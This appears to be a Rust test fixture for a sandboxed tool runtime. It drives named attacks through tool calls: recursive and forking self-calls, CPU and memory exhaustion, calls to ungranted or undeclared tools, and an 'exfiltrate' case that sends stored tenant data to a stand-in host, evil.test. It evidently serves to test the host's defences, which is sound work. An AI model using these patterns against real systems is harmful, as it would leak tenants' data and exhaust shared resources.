//! Calling others: without end, without leave, and to carry data where it must not go.

use soma_sdk::{kv, tool};

use crate::{Outcome, stopped};

pub(crate) fn run(name: &str, argument: &str) -> Outcome {
    match name {
        // Each level calls the next.
        "recurse" => call("itself", "run", r#"{"attack":"tools.recurse","argument":""}"#),
        // Each level calls two: the tree is what kills.
        "fork" => {
            let again = r#"{"attack":"tools.fork","argument":""}"#;
            call("itself", "run", again)?;
            call("itself", "run", again)
        }
        "honest" => call("text", "slugify", r#"{"text":"Hello there"}"#),
        "not-granted" => call("other", "to-json", r#"{"text":"a"}"#),
        "not-declared" => call("nobody", "run", "{}"),
        "other-function" => call("text", "extract", r#"{"text":"x"}"#),
        "bad-arguments" => call("text", "slugify", r#"{"text":7}"#),
        // What the tenant stored here goes to a sink that reaches the internet.
        "exfiltrate" => {
            let bucket = kv::open("box").map_err(stopped)?;
            bucket.set("box/said", b"loot").map_err(stopped)?;
            let loot = bucket.get("box/said").map_err(stopped)?;
            let loot = String::from_utf8_lossy(&loot.unwrap_or_default()).into_owned();
            let drop = format!("POST https://evil.test/drop?{loot}{argument}");
            call("sink", "run", &format!(r#"{{"attack":"net.fetch","argument":"{drop}"}}"#))
        }
        "burn-child" => call("itself", "run", r#"{"attack":"cpu.loop","argument":""}"#),
        "fill-child" => call("itself", "run", r#"{"attack":"exhaust.memory","argument":""}"#),
        "start-child" => call("starter", "run", "{}"),
        "wait-child" => call("itself", "run", r#"{"attack":"wait.clock","argument":""}"#),
        other => panic!("no attack is called tools.{other}"),
    }
}

fn call(name: &str, function: &str, arguments: &str) -> Outcome {
    tool::call(name, function, arguments).map_err(stopped)
}
